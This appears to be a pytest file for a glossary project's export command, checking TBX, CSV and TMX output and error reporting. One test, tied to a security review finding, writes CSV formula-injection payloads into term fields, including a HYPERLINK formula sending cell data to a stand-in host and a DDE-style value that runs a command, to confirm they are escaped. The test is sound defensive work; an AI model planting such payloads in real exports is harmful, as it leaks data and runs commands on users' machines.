"""`python -m scripts export`: each format written where the README says, and read back the way a CAT
tool reads it (translate-toolkit's TMX and TBX readers, Python's csv)."""
from __future__ import annotations

import csv
import io

import pytest
import yaml
from translate.storage import tbx, tmx

from scripts.glossary.terms import load_terms
from scripts.project import Project
from tests.support.project import copy_project, run_cli


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    return Project(copy_project(tmp_path_factory.mktemp("exports"), translations=True))


def test_tbx_is_written_to_exports_and_reads_as_a_termbase(project):
    result = run_cli("export", "tbx", root=project.root)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "wrote exports/glossary.tbx"
    with open(project.exports_dir / "glossary.tbx", "rb") as handle:
        termbase = tbx.tbxfile(handle)
    terms = load_terms(project)
    assert len(termbase.units) == len(terms)
    by_source = {unit.source: unit.target for unit in termbase.units}
    iom = next(t for t in terms if t.id == "iom")
    assert by_source[iom.vi] == iom.en


def test_csv_to_standard_output_has_one_row_per_term(project):
    result = run_cli("export", "csv", "-o", "-", root=project.root)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    terms = {t.id: t for t in load_terms(project)}
    assert [row["id"] for row in rows] == sorted(terms)
    row = next(r for r in rows if r["id"] == "iom")
    assert (row["vi"], row["en"], row["en_abbr"]) == (terms["iom"].vi, terms["iom"].en, terms["iom"].en_abbr)


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe(tmp_path):
    """Security review F15: "=HYPERLINK(…)", "@SUM(…)", "+…", "-…" in a term's text are written as
    text, not formulas."""
    project = copy_project(tmp_path / "p")
    term = project / "glossary" / "terms" / "geneva.yml"
    data = yaml.safe_load(term.read_text(encoding="utf-8"))
    data["definition_en"] = '=HYPERLINK("http://x.example/?q="&A1,"A city")'
    data["definition_vi"] = "@SUM(1+1)*cmd|' /C calc'!A0 Thành phố"
    data["en"] = "+Geneva"
    term.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    result = run_cli("export", "csv", "-o", "-", root=project)
    assert result.returncode == 0, result.stderr
    row = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["id"] == "geneva")
    assert row["definition_en"].startswith("'=HYPERLINK(") and row["definition_vi"].startswith("'@SUM(")
    assert row["en"] == "'+Geneva"
    assert not [v for r in csv.DictReader(io.StringIO(result.stdout)) for v in r.values() if v and v[0] in "=@+-\t\r"]


def test_tmx_reads_as_a_translation_memory_with_every_finished_segment(project, tmp_path):
    out = tmp_path / "memory.tmx"
    result = run_cli("export", "tmx", "-o", str(out), root=project.root)
    assert result.returncode == 0, result.stderr
    with open(out, "rb") as handle:
        memory = tmx.tmxfile(handle)
    from scripts.translate.memory import all_pages

    finished = {r.id: r for page in all_pages(project) for r in page.records.values() if r.en}
    assert len(memory.units) == len(finished) > 0
    for unit in memory.units:
        assert unit.getid() in finished
        assert (unit.source, unit.target) == (finished[unit.getid()].vi, finished[unit.getid()].en)


def test_a_broken_glossary_is_one_error_line_and_no_file(project, tmp_path):
    broken = Project(copy_project(tmp_path / "broken"))
    (broken.terms_dir / "hong.yml").write_text("id: hong\nkind: nonsense\n", encoding="utf-8")
    result = run_cli("export", "tbx", root=broken.root)
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert result.stderr.startswith("error: glossary/terms/hong.yml:2: field 'kind': expected one of")
    assert not (broken.exports_dir / "glossary.tbx").exists()
